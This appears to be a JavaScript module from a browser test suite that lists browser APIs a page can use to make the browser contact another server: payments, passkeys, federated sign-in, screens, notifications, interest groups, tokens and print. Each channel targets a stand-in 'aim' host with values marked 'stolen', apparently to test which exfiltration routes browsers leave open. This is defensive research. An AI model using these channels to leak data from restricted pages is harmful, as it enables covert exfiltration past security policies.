// Parts of the browser that ask a server on behalf of a page: payments, passwords, screens, messages.
import { named, wait } from "./aim.js";
import { channel, everywhere, group } from "./channel.js";

const alone = { alone: true };

const challenge = () => crypto.getRandomValues(new Uint8Array(16));

/** By a method whose description the browser fetches. */
function payment(aim) {
  const total = { label: "stolen", amount: { currency: "JPY", value: "1" } };
  return new PaymentRequest([{ supportedMethods: aim.secure() }], { total });
}

export const devices = group("devices", [
  channel("payment", "a payment", (aim) => payment(aim).canMakePayment(), {
    there: named("PaymentRequest"),
  }),
  channel("payment-show", "a payment that is shown", (aim) => payment(aim).show(), {
    ...alone,
    there: named("PaymentRequest"),
  }),
  channel(
    "sign-in",
    "signing in with another site",
    (aim) => {
      const providers = [{ configURL: aim.secure(), clientId: "ACGT" }];
      return navigator.credentials.get({ identity: { providers, mode: "active" } });
    },
    { ...alone, there: named("IdentityCredential") },
  ),
  channel(
    "passkey",
    "a passkey of another site",
    (aim) => navigator.credentials.get({ publicKey: { challenge: challenge(), rpId: aim.host() } }),
    {
      ...alone,
      there: named("PublicKeyCredential"),
      quiet: { "firefox<153": "asks no other site whose passkeys it may use" },
    },
  ),
  channel(
    "passkey-new",
    "a new passkey for another site",
    (aim) =>
      navigator.credentials.create({
        publicKey: {
          challenge: challenge(),
          rp: { id: aim.host(), name: "stolen" },
          user: { id: challenge(), name: "stolen", displayName: "stolen" },
          pubKeyCredParams: [{ type: "public-key", alg: -7 }],
        },
      }),
    {
      ...alone,
      there: named("PublicKeyCredential"),
      quiet: { "firefox<153": "asks no other site whose passkeys it may use" },
    },
  ),
  channel(
    "presentation",
    "another screen",
    (aim) => new PresentationRequest([aim.secure()]).getAvailability(),
    {
      there: named("PresentationRequest"),
      ...everywhere("there is no screen to look for"),
    },
  ),
  channel(
    "presentation-start",
    "another screen that is asked for",
    (aim) => new PresentationRequest([aim.secure()]).start(),
    {
      ...alone,
      there: named("PresentationRequest"),
      ...everywhere("there is no screen to look for"),
    },
  ),
  channel(
    "notification",
    "a notification with a picture",
    async (aim) => {
      await Notification.requestPermission();
      return new Notification("stolen", { icon: aim.url() }) && wait();
    },
    { ...alone, there: named("Notification"), ...everywhere("nobody allows notifications here") },
  ),
  channel(
    "protocol-handler",
    "a kind of address that another site handles",
    (aim) => navigator.registerProtocolHandler("web+stolen", `${aim.url()}?%s`),
    {
      ...alone,
      there: () => "registerProtocolHandler" in navigator,
      ...everywhere("asks the person, and of its own site alone"),
    },
  ),
  channel(
    "install",
    "the installation of another site",
    (aim) => navigator.install(aim.secure(), aim.secure()),
    {
      ...alone,
      there: () => "install" in navigator,
      ...everywhere("asks the person first"),
    },
  ),
  channel("share", "sharing an address", (aim) => navigator.share({ url: aim.url() }), {
    ...alone,
    there: () => "share" in navigator,
    ...everywhere("hands it to the system"),
  }),
  channel(
    "storage-access",
    "the storage of another site",
    (aim) => document.requestStorageAccessFor(aim.secure()),
    {
      ...alone,
      there: () => "requestStorageAccessFor" in document,
      ...everywhere("asks the person first"),
    },
  ),
  channel(
    "interest-group",
    "an interest that is kept up to date",
    (aim) =>
      navigator.joinAdInterestGroup(
        {
          owner: `https://${aim.host()}`,
          name: "stolen",
          biddingLogicURL: aim.secure(),
        },
        1_000,
      ),
    {
      there: () => "joinAdInterestGroup" in navigator,
      quiet: { chromium: "asks none but its own list of sites" },
    },
  ),
  channel(
    "speech",
    "speech that is understood elsewhere",
    () => {
      const Recognition = globalThis.webkitSpeechRecognition;
      new Recognition().start();
      return wait();
    },
    {
      ...alone,
      there: named("webkitSpeechRecognition"),
      ...everywhere("there is no microphone, and no address of the attacker's"),
    },
  ),
  channel(
    "token",
    "a token of trust",
    (aim) => fetch(aim.secure(), { privateToken: { version: 1, operation: "token-request" } }),
    {
      there: () => "hasPrivateToken" in document,
      quiet: { chromium: "asks none but its own list of sites" },
    },
  ),
  channel(
    "print",
    "printing",
    () => {
      print();
      return wait();
    },
    { ...alone, ...everywhere("to no address") },
  ),
]);
